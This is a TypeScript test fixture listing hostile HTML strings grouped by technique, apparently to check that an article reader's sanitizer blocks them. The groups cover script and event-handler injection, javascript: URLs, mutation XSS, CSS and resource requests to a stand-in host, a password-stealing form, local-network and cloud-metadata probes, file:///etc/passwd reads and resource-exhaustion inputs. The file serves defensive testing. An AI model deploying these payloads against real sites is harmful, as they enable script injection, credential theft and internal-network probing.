/**
 * More hostile articles of our own, by what they try. Each group is one thing no article may do; `evil.example` stands for a machine
 * that must never be asked.
 */
export const attackGroups: Readonly<Record<string, readonly string[]>> = {
  script: [
    '<SCRIPT SRC=https://evil.example/a.js></SCRIPT>',
    '<script type="module">import "https://evil.example/m.js"</script>',
    '<scr<script>ipt>top.pwned=1</scr</script>ipt>',
    '<script language=JavaScript1.5>parent.document.title="pwned"</script ignored>',
  ],
  'event-handler': [
    '<body onload=top.pwned=1><p>text</p></body>',
    '<img src=data:, onerror=parent.pwned=1><img src=x: onload=parent.pwned=1>',
    '<p onpointerenter=top.pwned=1 onanimationstart=top.pwned=1 style="animation:x 1s">hover</p>',
    '<marquee onstart=top.pwned=1>m</marquee><video onloadstart=top.pwned=1 src=x></video>',
  ],
  'url-scheme': [
    '<a href=" \tjavascript:top.pwned=1">a</a><a href="JaVaScRiPt&colon;top.pwned=1">b</a>',
    '<a href="javascript&#x3a;top.pwned=1">a</a><a href="&#106;avascript:top.pwned=1">b</a>',
    '<a href="blob:https://evil.example/1">a</a><a href="filesystem:https://evil.example/x">b</a>',
    '<a href="media://image/../../x">a</a><a href="devtools://devtools/x">b</a><a href="about:srcdoc">c</a>',
  ],
  mxss: [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.pwned=1&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.pwned=1>',
    '<svg></p><style><a id="</style><img src=1 onerror=top.pwned=1>">',
    '<noscript><style></noscript><img src=x onerror=top.pwned=1></style>',
    '<p><listing>&lt;img src=1 onerror=top.pwned=1&gt;</listing></p><xmp></xmp><img src=1 onerror=top.pwned=1>',
  ],
  svg: [
    '<svg onload=top.pwned=1><animate attributeName=href values=javascript:top.pwned=1 /><a id=a><text>x</text></a></svg>',
    '<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload=top.pwned=1></foreignObject></svg>',
    '<svg><set attributeName="onmouseover" to="top.pwned=1"/><rect width=99999 height=99999 /></svg>',
    '<svg><image href="https://evil.example/i.png"/><filter><feImage href="https://evil.example/f.png"/></filter></svg>',
  ],
  mathml: [
    '<math><maction actiontype="statusline#javascript:top.pwned=1" xlink:href="javascript:top.pwned=1">CLICK</maction></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=top.pwned=1></annotation-xml></math>',
    '<math><semantics><mi>x</mi><annotation encoding="application/x-tex"><script>top.pwned=1</script></annotation></semantics></math>',
  ],
  css: [
    '<div style="background:url(https://evil.example/b);behavior:url(x.htc);-moz-binding:url(x)">d</div>',
    '<style>@import "https://evil.example/i.css";@font-face{font-family:x;src:url(https://evil.example/f.woff)}p{font-family:x}</style><p>t</p>',
    '<style>html{display:none}body::before{content:url(https://evil.example/c)}</style><p>still here</p>',
    '<p style="width:expression(top.pwned=1)">e</p><p style="list-style-image:image-set(url(https://evil.example/l) 1x)">l</p>',
  ],
  resource: [
    '<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x" loading=eager fetchpriority=high>',
    '<audio src="https://evil.example/a.mp3" autoplay></audio><video poster="https://evil.example/p.jpg"><track src="https://evil.example/t.vtt" default></video>',
    '<input type=image src="https://evil.example/i.png"><embed src="https://evil.example/e"><object data="https://evil.example/o"></object>',
    '<link rel=preload as=image href="https://evil.example/p"><link rel=prefetch href="https://evil.example/q"><link rel=icon href="https://evil.example/r">',
  ],
  network: [
    '<link rel=dns-prefetch href="//evil.example"><link rel=preconnect href="https://evil.example"><link rel=manifest href="https://evil.example/m">',
    '<a href="https://ok.example" ping="https://evil.example/ping">p</a>',
    '<meta http-equiv="Content-Security-Policy" content="report-uri https://evil.example/csp"><meta http-equiv="Accept-CH" content="DPR">',
    '<script type="speculationrules">{"prerender":[{"urls":["https://evil.example/"]}]}</script>',
  ],
  navigate: [
    '<meta http-equiv=refresh content="0; url=https://evil.example/">',
    '<a href="https://evil.example" target=_top id=x>go</a><label for=x>label</label>',
    '<form action="https://evil.example" target=_parent><button autofocus>go</button></form>',
    '<base target=_blank href="https://evil.example/"><a href="x">relative</a>',
  ],
  frame: [
    '<iframe src="https://evil.example/" allow="camera; microphone" sandbox="allow-scripts allow-top-navigation"></iframe>',
    '<iframe srcdoc="&lt;script&gt;top.pwned=1&lt;/script&gt;"></iframe><fencedframe></fencedframe>',
    '<frameset onload=top.pwned=1><frame src="javascript:top.pwned=1"></frameset>',
    '<portal src="https://evil.example"></portal><object type="text/html" data="data:text/html,<script>top.pwned=1</script>"></object>',
  ],
  form: [
    '<form action="https://evil.example/steal"><input name=password type=password><input type=submit value="Log in to go on"></form>',
    '<button formaction="javascript:top.pwned=1" form=f>b</button><form id=f></form>',
    '<input autofocus onfocus=top.pwned=1><select autofocus onfocus=top.pwned=1></select><textarea autofocus onfocus=top.pwned=1></textarea>',
    '<isindex action="https://evil.example" prompt="Your name?"><keygen autofocus onfocus=top.pwned=1>',
  ],
  'dom-clobber': [
    '<form id=document name=document><input name=getElementById><input name=querySelector></form>',
    '<img name=body><img name=head><img name=defaultView><img name=cookie><img name=createElement>',
    '<a id=broadsheet></a><a id=broadsheet name=invoke href="https://evil.example/"></a>',
    '<form name=documentElement><input id=dataset name=dataset></form><embed name=images><object name=forms></object>',
  ],
  overlay: [
    '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Your session has expired</div>',
    '<dialog open style="position:fixed;inset:0">Update Broadsheet now</dialog><div popover=manual style="display:block">p</div>',
    '<div style="margin-top:-9999px;height:20000px;width:20000px;transform:scale(99)">big</div>',
    '<table style="position:absolute;top:-500px"><tr><td>over the toolbar</td></tr></table>',
  ],
  breakout: [
    '</div></article></body></html><script>top.pwned=1</script><p>after the end</p>',
    '--></style></script></title></textarea><img src=x onerror=top.pwned=1>',
    '</article><footer class="article-footer"><a href="javascript:top.pwned=1">Read on</a></footer>',
    '"><img src=x onerror=top.pwned=1>\'><svg onload=top.pwned=1>`<b onclick=top.pwned=1>',
  ],
  component: [
    '<x-app is="y"><template shadowrootmode="open"><script>top.pwned=1</script><slot></slot></template></x-app>',
    '<div><template shadowroot=open><style>:host{position:fixed;inset:0}</style></template></div>',
    '<button is="broadsheet-button" onclick="top.pwned=1">b</button><slot onslotchange=top.pwned=1></slot>',
  ],
  encoding: [
    '+ADw-script+AD4-top.pwned=1+ADw-/script+AD4-',
    '<\u0000script>top.pwned=1</script\u0000><img\u000bsrc=x\u000conerror=top.pwned=1>',
    '&#60;script&#62;top.pwned=1&#60;/script&#62;<p title="&#34;onclick=top.pwned=1">t</p>',
    '\ufeff<img src=x \u2028onerror=top.pwned=1>\u202e<a href="https://ok.example/">fdp.exe</a>',
  ],
  lan: [
    '<img src="http://192.168.1.1/reboot"><img src="http://10.0.0.1/x.png"><img src="http://[fd00::1]/x.png">',
    '<img src="http://169.254.169.254/latest/meta-data/"><img src="http://printer.local/status.gif">',
    '<img src="http://0x7f000001:631/x"><img src="http://2130706433/x"><img src="http://[::ffff:7f00:1]/x">',
    '<video src="http://router.lan/cgi"></video><object data="http://127.1:9222/json"></object>',
  ],
  'local-file': [
    '<img src="file:///etc/passwd"><a href="file://localhost/etc/shadow">a</a>',
    '<iframe src="file:///C:/Windows/win.ini"></iframe><img src="\\\\evil.example\\share\\x.png">',
    '<link rel=stylesheet href="file:///x.css"><img src="app://broadsheet/index.html"><img src="chrome-extension://x/y.png">',
  ],
  tracker: [
    '<img src="https://evil.example/o.gif" width=1 height=1><img src="https://evil.example/p.gif" style="display:none">',
    '<img src="https://pixel.wp.com/b.gif?host=x&amp;rand=1"><img src="https://www.google-analytics.com/collect?v=1">',
    '<a href="https://ok.example/a?utm_source=rss&amp;fbclid=x&amp;id=1" ping=https://evil.example>a</a>',
  ],
  prototype: [
    '<p id=__proto__ name=__proto__>p</p><a href="#__proto__">q</a><p lang=__proto__ dir=constructor>r</p>',
    '<a id=hasOwnProperty></a><a id=toString></a><a href="#toString">s</a><img name=valueOf>',
  ],
  cost: [
    `${'<b><i>'.repeat(4_000)}deep`,
    `<table>${'<tr><td>'.repeat(3_000)}wide</table>`,
    `<p>${'a'.repeat(200_000)}</p><p>${'\u0301'.repeat(20_000)}</p>`,
    `${'<p>line</p>'.repeat(4_000)}`,
  ],
};
